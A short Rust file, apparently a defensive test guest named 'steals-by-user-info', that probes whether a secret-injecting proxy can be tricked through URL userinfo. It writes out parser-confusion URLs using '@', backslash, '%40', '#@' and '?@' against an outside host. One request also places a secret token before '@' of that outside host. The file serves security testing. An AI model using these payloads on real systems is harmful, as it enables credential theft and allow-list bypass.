//! `validate` puts the secrets, or the allowed host, before the `@` of somebody else's URL.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn tries(cx: &Cx) -> Result<Verdict> {
    let mut told = Told::default();
    let elsewhere = cx.setting("elsewhere");
    let base = cx.fill("{base_url.origin}")?;
    let host = base.trim_start_matches("http://");
    for url in [
        format!("http://{host}@{elsewhere}/"),
        format!("http://{host}:x@{elsewhere}/"),
        format!("http://user:password@{host}/check"),
        format!("http://user@{host}/check"),
        format!("http://{elsewhere}\\@{host}/check"),
        format!("http://{host}%40{elsewhere}/"),
        format!("http://{host}#@{elsewhere}/"),
        format!("http://{host}?@{elsewhere}/"),
    ] {
        let mut request = raw::request("GET", &url);
        request.cookies = true;
        told.send(&url, &request);
    }
    let mut request = raw::request("GET", "");
    request.url = vec![
        raw::Part::Text("http://".into()),
        raw::secret("token"),
        raw::Part::Text(format!("@{elsewhere}/")),
    ];
    told.send("secret", &request);
    told.finish(cx)
}

keywheel_guests::guest!("steals-by-user-info", validate: tries);
